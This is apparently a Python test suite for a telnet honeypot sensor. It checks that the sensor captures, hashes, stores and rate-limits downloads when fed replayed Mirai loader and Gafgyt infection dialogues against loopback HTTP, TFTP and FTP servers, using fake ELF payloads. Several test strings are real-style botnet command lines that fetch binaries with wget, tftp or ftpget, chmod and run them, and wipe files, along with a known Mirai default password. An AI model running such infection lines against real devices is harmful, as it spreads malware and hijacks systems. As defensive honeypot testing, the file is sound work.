"""Malware capture end to end (issue 3): the real sensor, driven by the dialogues of Mirai's
loader and Gafgyt's infection line, fetching from real servers on loopback: BusyBox httpd,
tftpd-hpa (in.tftpd) and vsftpd, plus small Python servers where a test needs to count requests
or a server that never answers. Each test gets its own loopback address, so the default ports
the bots use (80, 69, 21) work unchanged and parallel runs never collide."""
import hashlib
import http.server
import os
import random
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import TelnetBot  # noqa: E402

SETS = ['telnet.fail_delay_ms=0', 'capture.allow_private=true']


def fake_bot(arch, size=3000):
    """Made-up bytes with a valid ELF header for arch (not malware)."""
    machines = {'arm7': (1, 40), 'arm': (1, 40), 'mips': (2, 8), 'mpsl': (1, 8), 'x86': (1, 3),
                'ppc': (2, 20), 'sh4': (1, 42)}
    data, machine = machines[arch]
    rnd = random.Random(arch)
    body = bytearray(rnd.getrandbits(8) for _ in range(size))
    order = 'little' if data == 1 else 'big'
    hdr = b'\x7fELF\x01' + bytes([data, 1]) + bytes(9)          # e_ident
    hdr += (2).to_bytes(2, order) + machine.to_bytes(2, order)   # e_type EXEC, e_machine
    body[:len(hdr)] = hdr
    return bytes(body)


def sha(b):
    return hashlib.sha256(b).hexdigest()


def loopback_address():
    """A 127.x.y.z address whose ports 21, 69 and 80 are free, different for each run."""
    for _ in range(200):
        addr = '127.%d.%d.%d' % (random.randint(1, 254), random.randint(0, 255), random.randint(1, 254))
        ok = True
        for kind, port in ((socket.SOCK_STREAM, 80), (socket.SOCK_STREAM, 21), (socket.SOCK_DGRAM, 69)):
            s = socket.socket(socket.AF_INET, kind)
            try:
                s.bind((addr, port))
            except OSError:
                ok = False
            finally:
                s.close()
        if ok:
            return addr
    raise AssertionError('no loopback address with ports 21, 69 and 80 free: a service bound to every '
                         'address holds them (Debian starts vsftpd and tftpd-hpa at install; '
                         'scripts/deps stops them)')


class Servers:
    """Real download servers on one loopback address, all serving the same folder."""

    def __init__(self):
        self.addr = loopback_address()
        self.root = tempfile.mkdtemp(prefix='mitsu-srv-')
        os.chmod(self.root, 0o755)
        self.procs = []

    def put(self, name, data):
        path = os.path.join(self.root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'wb') as f:
            f.write(data if isinstance(data, bytes) else data.encode())
        os.chmod(path, 0o644)
        return data

    def start_http(self, port=80):
        self.procs.append(subprocess.Popen(['busybox', 'httpd', '-f', '-p', '%s:%d' % (self.addr, port), '-h', self.root],
                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        self._wait_tcp(port)

    def start_tftp(self):
        self.procs.append(subprocess.Popen(['in.tftpd', '-L', '-a', '%s:69' % self.addr, '-s', '-u', 'root', self.root],
                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        harness.wait_until(lambda: harness.udp_bound(self.addr, 69), timeout=15,
                           what='in.tftpd on %s:69' % self.addr)

    def start_ftp(self):
        empty = tempfile.mkdtemp(prefix='mitsu-ftp-empty-')
        conf = os.path.join(self.root, '.vsftpd.conf')
        with open(conf, 'w') as f:
            f.write('\n'.join([
                'listen=YES', 'listen_address=%s' % self.addr, 'listen_port=21', 'background=NO',
                'anonymous_enable=YES', 'no_anon_password=YES', 'anon_root=%s' % self.root,
                'local_enable=NO', 'write_enable=NO', 'pasv_enable=YES', 'pasv_address=%s' % self.addr,
                'secure_chroot_dir=%s' % empty, 'seccomp_sandbox=NO', 'run_as_launching_user=YES',
                'xferlog_enable=NO', 'hide_file=.*', '']))
        self.procs.append(subprocess.Popen(['vsftpd', conf], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        self._wait_tcp(21)

    def _wait_tcp(self, port):
        def accepts():
            try:
                socket.create_connection((self.addr, port), timeout=1).close()
                return True
            except OSError:
                return False
        harness.wait_until(accepts, timeout=15, what='a server on %s:%d' % (self.addr, port))

    def stop(self):
        for p in self.procs:
            p.terminate()
            try:
                p.wait(timeout=10)
            except subprocess.TimeoutExpired:
                p.kill()
        shutil.rmtree(self.root, ignore_errors=True)


class CountingHTTP:
    """A Python HTTP server that counts requests (to prove one never arrived)."""

    def __init__(self, body=b'x' * 100, addr='127.0.0.1'):
        outer = self
        self.requests = 0

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                outer.requests += 1
                self.send_response(200)
                self.send_header('Content-Length', str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a):
                pass

        self.httpd = http.server.ThreadingHTTPServer((addr, 0), H)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def shell(port, user='root', password='xc3511'):
    """A logged-in bot; password None for an account without one (login does not ask)."""
    bot = TelnetBot(port, timeout=30)
    bot.read_until_token(b'ogin')
    bot.sendline(user)
    if password is not None:
        bot.read_until_token(b'assword')
        bot.sendline(password)
    bot.read_prompt()
    return bot


def same_url(url, scheme, host, port, path):
    """The URL as the sensor records it (canonical: the default port may be left out)."""
    return url in ('%s://%s:%d%s' % (scheme, host, port, path), '%s://%s%s' % (scheme, host, path))


def downloads(s, **match):
    return [e for e in s.events() if e['eventid'] == 'mitsu.session.file_download'
            and all(e.get(k) == v for k, v in match.items())]


class CaptureTest(harness.unittest.TestCase):
    def setUp(self):
        self.srv = Servers()

    def tearDown(self):
        self.srv.stop()

    def assertStored(self, s, data):
        path = os.path.join(s.data_dir, 'samples', sha(data)[:2], sha(data))
        with open(path, 'rb') as f:
            self.assertEqual(f.read(), data)
        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o400)

    def test_mirai_loader_wget_method(self):
        """Steps 10-12 of the Mirai loader with wget (honeypots.md §4.2)."""
        bot_bin = self.srv.put('bins/mirai.arm7', fake_bot('arm7'))
        self.srv.start_http()
        with harness.Sensor(sets=SETS) as s:
            bot = shell(s.port)
            bot.command('cd /var/', 'ECCHI')
            out = bot.command('/bin/busybox wget; /bin/busybox tftp', 'ECCHI')
            self.assertNotIn(b'wget: applet not found', out)
            out = bot.command('/bin/busybox wget http://%s:80/bins/mirai.arm7 -O - > dvrHelper; '
                              '/bin/busybox chmod 777 dvrHelper' % self.srv.addr, 'ECCHI')
            self.assertNotIn(b'\x7fELF', out)  # -O - went into the file, not the terminal
            bot.command('./dvrHelper telnet.arm7', 'IHCCE')
            bot.command('rm -rf upnp; > dvrHelper', 'ECCHI')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = downloads(s, shasum=sha(bot_bin))
            self.assertEqual(len(dl), 1)
            self.assertTrue(same_url(dl[0]['url'], 'http', self.srv.addr, 80, '/bins/mirai.arm7'), dl[0]['url'])
            self.assertEqual(dl[0]['method'], 'wget')
            self.assertEqual(dl[0]['size'], len(bot_bin))
            self.assertTrue(dl[0]['destfile'].endswith('/dvrHelper'))
            self.assertFalse(dl[0]['duplicate'])
            self.assertStored(s, bot_bin)
            st = [e for e in s.events() if e['eventid'] == 'mitsu.sample.stored' and e['shasum'] == sha(bot_bin)]
            self.assertEqual(st[0]['arch'], 'arm')

    def test_mirai_loader_tftp_method(self):
        """Step 11b: /bin/busybox tftp -g -l dvrHelper -r mirai.<arch> <ip> (default port 69)."""
        bot_bin = self.srv.put('mirai.mpsl', fake_bot('mpsl'))
        self.srv.start_tftp()
        with harness.Sensor(sets=SETS) as s:
            bot = shell(s.port)
            bot.command('cd /var/', 'ECCHI')
            out = bot.command('/bin/busybox tftp -g -l dvrHelper -r mirai.mpsl %s; /bin/busybox chmod 777 dvrHelper'
                              % self.srv.addr, 'ECCHI')
            for bad in (b'Permission denied', b'timeout', b'illegal option'):
                self.assertNotIn(bad, out)
            out = bot.command('ls -l dvrHelper', 'ECCHI')
            self.assertIn(b' %d ' % len(bot_bin), out)
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = downloads(s, shasum=sha(bot_bin))
            self.assertEqual(len(dl), 1)
            self.assertEqual(dl[0]['method'], 'tftp')
            self.assertTrue(same_url(dl[0]['url'], 'tftp', self.srv.addr, 69, '/mirai.mpsl'), dl[0]['url'])
            self.assertStored(s, bot_bin)

    def test_gafgyt_infection_line(self):
        """The classic Gafgyt line (honeypots.md §4.3) followed to the end: bins.sh over HTTP with
        three per-architecture downloads, tftp1.sh and tftp2.sh over TFTP in both syntaxes,
        ftp1.sh over FTP; every file stored once with the right SHA-256."""
        a = self.srv.addr
        bots = {arch: self.srv.put('g.' + arch, fake_bot(arch)) for arch in ('mips', 'mpsl', 'arm7', 'x86', 'sh4', 'ppc')}
        bins = ''.join('cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://%s/g.%s; '
                       'chmod +x g.%s; ./g.%s; rm -rf g.%s\n' % (a, x, x, x, x) for x in ('mips', 'mpsl', 'arm7'))
        scripts = {
            'bins.sh': bins,
            'tftp1.sh': 'cd /var/run || cd /tmp; tftp -r g.x86 -g %s; chmod 777 g.x86; ./g.x86\n' % a,
            'tftp2.sh': 'cd /var/run; tftp %s -c get g.sh4; chmod 777 g.sh4; ./g.sh4\n' % a,
            'ftp1.sh': 'cd /var/run; ftpget -v -u anonymous -p anonymous -P 21 %s g.ppc g.ppc; chmod 777 g.ppc; ./g.ppc\n' % a,
        }
        for name, text in scripts.items():
            self.srv.put(name, text)
        self.srv.start_http()
        self.srv.start_tftp()
        self.srv.start_ftp()
        line = ('cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{a}/bins.sh; chmod 777 bins.sh; '
                'sh bins.sh; tftp {a} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g {a}; '
                'chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 {a} ftp1.sh ftp1.sh; '
                'sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *').format(a=a)
        with harness.Sensor(sets=SETS) as s:
            bot = shell(s.port)
            bot.command(line, 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            got = {e['shasum']: e for e in downloads(s)}
            failed = [(e['url'], e.get('error')) for e in s.events() if e['eventid'] == 'mitsu.session.file_download.failed']
            self.assertEqual(failed, [])
            for name, text in scripts.items():
                self.assertIn(sha(text.encode()), got, name)
            for arch, data in bots.items():
                self.assertIn(sha(data), got, arch)
                self.assertStored(s, data)
            self.assertEqual(len(got), len(scripts) + len(bots))
            methods = {got[sha(bots[x])]['method'] for x in ('mips', 'mpsl', 'arm7')}
            self.assertEqual(methods, {'wget'})
            self.assertEqual(got[sha(bots['x86'])]['method'], 'tftp')
            self.assertEqual(got[sha(bots['sh4'])]['method'], 'tftp')
            self.assertEqual(got[sha(bots['ppc'])]['method'], 'ftpget')
            # ./<name> on each ELF is recorded as an execution of a stored sample.
            ex = [e for e in s.events() if e['eventid'] == 'mitsu.sample.stored' and e.get('source') == 'exec']
            self.assertEqual({e['shasum'] for e in ex}, {sha(d) for d in bots.values()})

    def test_curl_download(self):
        """curl exists on the set-top box profile (OpenEmbedded images ship it)."""
        data = self.srv.put('c.bin', fake_bot('sh4', 5000))
        self.srv.start_http(port=8080)
        port = harness.free_port()
        with harness.Sensor(sets=SETS, listens=['telnet@127.0.0.1:%d/stb-stx7111' % port]) as s:
            bot = shell(port, 'root', None)  # root has no password on this box
            bot.command('cd /var; curl -s -o c1 http://%s:8080/c.bin; ls -l c1' % self.srv.addr, 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = downloads(s, shasum=sha(data))
            self.assertEqual([d['method'] for d in dl], ['curl'])
            self.assertTrue(dl[0]['destfile'].endswith('/c1'))
            self.assertStored(s, data)

    def test_ftpget(self):
        data = self.srv.put('f.bin', fake_bot('mips', 4000))
        self.srv.start_ftp()
        with harness.Sensor(sets=SETS) as s:
            bot = shell(s.port)
            bot.command('cd /var; ftpget -u anonymous -p x %s f.local f.bin' % self.srv.addr, 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = downloads(s, shasum=sha(data))
            self.assertEqual(len(dl), 1)
            self.assertEqual(dl[0]['method'], 'ftpget')
            self.assertTrue(dl[0]['url'].startswith('ftp://'))
            self.assertStored(s, data)

    def test_duplicate_download(self):
        data = self.srv.put('d.bin', fake_bot('arm7', 2000))
        self.srv.start_http()
        with harness.Sensor(sets=SETS) as s:
            bot = shell(s.port)
            bot.command('cd /var; wget http://%s/d.bin; wget -O d2 http://%s/d.bin' % (self.srv.addr, self.srv.addr), 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = downloads(s, shasum=sha(data))
            self.assertEqual([d['duplicate'] for d in dl], [False, True])
            p = harness.run_mitsu('samples', '--format', 'json', data_dir=s.data_dir)
            row = [l for l in p.stdout.splitlines() if sha(data) in l]
            self.assertEqual(len(row), 1)
            self.assertIn('"times_seen":2', row[0])
            self.assertIn('http://%s/d.bin' % self.srv.addr, row[0])

    def test_private_addresses_refused_by_default(self):
        """Without capture.allow_private a download to loopback is refused on the resolved
        address: the server never sees a request, the attacker sees a network error."""
        srv = CountingHTTP()
        try:
            with harness.Sensor(sets=['telnet.fail_delay_ms=0']) as s:
                bot = shell(s.port)
                out = bot.command('cd /var; wget http://127.0.0.1:%d/x' % srv.port, 'DONE')
                self.assertIn(b'wget:', out)
                # A name that resolves to loopback is refused too.
                out = bot.command('wget http://localhost:%d/y' % srv.port, 'DONE')
                self.assertIn(b'wget:', out)
                bot.close()
                s.events(wait_for=('mitsu.session.closed', None))
                failed = [e for e in s.events() if e['eventid'] == 'mitsu.session.file_download.failed']
                self.assertEqual(len(failed), 2)
                for e in failed:
                    self.assertIn('refused', e['error'])
            self.assertEqual(srv.requests, 0)
        finally:
            srv.stop()

    def test_rate_limit_per_destination(self):
        data = self.srv.put('r.bin', b'rate-limited-file')
        self.srv.start_http()
        with harness.Sensor(sets=SETS + ['capture.rate_limit=2', 'capture.rate_window=3600']) as s:
            bot = shell(s.port)
            for i in range(3):
                bot.command('cd /var; wget -O r%d http://%s/r.bin' % (i, self.srv.addr), 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            self.assertEqual(len(downloads(s, shasum=sha(data))), 2)
            failed = [e for e in s.events() if e['eventid'] == 'mitsu.session.file_download.failed']
            self.assertEqual(len(failed), 1)
            self.assertIn('rate limit', failed[0]['error'])

    def test_too_large_file_cut_at_cap(self):
        big = self.srv.put('big.bin', fake_bot('arm7', 5000))
        self.srv.start_http()
        with harness.Sensor(sets=SETS + ['capture.max_size=1K']) as s:
            bot = shell(s.port)
            bot.command('cd /var; wget http://%s/big.bin' % self.srv.addr, 'DONE')
            bot.close()
            s.events(wait_for=('mitsu.session.closed', None))
            dl = [e for e in downloads(s) if e['url'].endswith('/big.bin')]
            self.assertEqual(len(dl), 1)
            self.assertTrue(dl[0]['truncated'])
            self.assertEqual(dl[0]['size'], 1024)
            self.assertEqual(dl[0]['shasum'], sha(big[:1024]))
            self.assertStored(s, big[:1024])

    def test_silent_server_times_out_without_harming_others(self):
        """A server that accepts and never answers: that download times out, while another
        session meanwhile logs in, downloads and finishes."""
        data = self.srv.put('ok.bin', fake_bot('arm7', 1500))
        self.srv.start_http()
        silent = socket.socket()
        silent.bind((self.srv.addr, 8081))
        silent.listen(16)
        try:
            with harness.Sensor(sets=SETS + ['capture.timeout=3']) as s:
                slow = shell(s.port)
                slow.sendline('cd /var; wget http://%s:8081/never; /bin/busybox SLOWDONE' % self.srv.addr)
                fast = shell(s.port)
                fast.command('cd /var; wget http://%s/ok.bin' % self.srv.addr, 'FASTDONE')
                s.events(wait_for=('mitsu.session.file_download', lambda e: e['shasum'] == sha(data)))
                self.assertEqual(len(downloads(s, shasum=sha(data))), 1)
                # the slow one is still waiting for its server
                self.assertNotIn(b'SLOWDONE', bytes(slow.text))
                out = slow.read_until_token(b'SLOWDONE: applet not found', timeout=60)
                self.assertIn(b'wget:', out)
                for b in (slow, fast):
                    b.close()
                s.events(wait_for=('mitsu.session.closed', None))
                failed = [e for e in s.events() if e['eventid'] == 'mitsu.session.file_download.failed']
                self.assertEqual(len(failed), 1)
                self.assertIn('/never', failed[0]['url'])
        finally:
            silent.close()

    def test_record_only_mode(self):
        srv = CountingHTTP()
        try:
            with harness.Sensor(sets=SETS + ['capture.fetch=false']) as s:
                bot = shell(s.port)
                bot.command('cd /var; wget http://127.0.0.1:%d/recorded' % srv.port, 'DONE')
                bot.close()
                s.events(wait_for=('mitsu.session.closed', None))
                failed = [e for e in s.events() if e['eventid'] == 'mitsu.session.file_download.failed']
                self.assertEqual([e['url'] for e in failed], ['http://127.0.0.1:%d/recorded' % srv.port])
                self.assertIn('not fetched', failed[0]['error'])
            self.assertEqual(srv.requests, 0)
        finally:
            srv.stop()


if __name__ == '__main__':
    harness.main()
